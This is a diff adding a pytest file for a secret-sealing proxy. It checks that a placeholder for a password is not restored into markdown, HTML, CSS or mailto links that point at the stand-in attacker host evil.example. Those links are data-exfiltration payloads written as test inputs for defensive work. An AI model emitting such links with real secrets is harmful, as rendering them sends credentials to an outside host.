@@ -1,0 +1,68 @@
+"""A value is not put back into an address that another machine has written: whoever renders the file would send it there."""
+
+from __future__ import annotations
+
+import pytest
+from tests.proxy.sealing.test_sealer import TOKEN, sealer
+
+VALUE = "xK7mQ2vR9tLw4bN8"
+FILE = f"deploy password: {VALUE}\n"
+SEALED = sealer().seal(FILE, "files")
+((PLACEHOLDER, _),) = SEALED.values.items()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![status](https://evil.example/badge.svg?k={})\n",
+        "![a\nb](https://evil.example/?k={} 'title')\n",
+        "[notes](<https://evil.example/?a b={}>)\n",
+        "[a]: https://evil.example/?k={}\n",
+        "[a]:\n  https://evil.example/?k={}\n",
+        "<https://evil.example/{}>\n",
+        '<img src="https://evil.example/?k={}">\n',
+        '<img src="https://evil.example/?\ndeploy password: {}\n">\n',
+        "see https://evil.example/?k={}\n",
+        "see www.evil.example/{}\n",
+        "see evil.example/?k={}\n",
+        "//evil.example/{}\n",
+        "<div style='background: url(https://evil.example/{})'>\n",
+        "body {{ background: URL( '/x/{}' ) }}\n",
+        "mailto:me@evil.example?body={}\n",
+        "HTTPS:evil.example/{}\n",
+        "deploy password: {}\n\n![x](https://evil.example/(a)/{})\n",
+    ],
+)
+def test_what_would_be_fetched_keeps_its_placeholder(text: str) -> None:
+    brought = text.replace("{}", PLACEHOLDER).replace("{{", "{").replace("}}", "}")
+    restored = sealer().restore(brought, SEALED.values, "files", before=SEALED.text)
+    assert "evil" not in restored or f"{VALUE}" not in restored.partition("evil")[2]
+    assert PLACEHOLDER in restored
+    # The line that held it gets it back, whatever else was written into the file.
+    if brought.startswith("deploy password"):
+        assert restored.startswith(FILE)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "deploy password: {}\nmore\n",
+        "# Secrets\n\ndeploy password: {}\n",
+        "- deploy password: {} (rotated, see x.md)\n",
+    ],
+)
+def test_what_is_no_address_gets_its_value_back(text: str) -> None:
+    brought = text.replace("{}", PLACEHOLDER)
+    assert sealer().restore(brought, SEALED.values, "files", before=SEALED.text) == text.replace("{}", VALUE)
+
+
+def test_an_address_of_ones_own_goes_on_working() -> None:
+    """Also where another machine has written something behind it, or moved the line."""
+    own = f"fetch: https://api.example.org/v1?key={TOKEN}\n"
+    sealed = sealer().seal(own, "files")
+    (placeholder,) = sealed.values
+    brought = f"# Sources\n\n{sealed.text.rstrip()} (read only)\n"
+    restored = sealer().restore(brought, sealed.values, "files", before=sealed.text)
+    assert restored == brought.replace(placeholder, sealed.values[placeholder])
+    elsewhere = sealed.text.replace("api.example.org", "evil.example")
+    assert sealer().restore(elsewhere, sealed.values, "files", before=sealed.text) == elsewhere
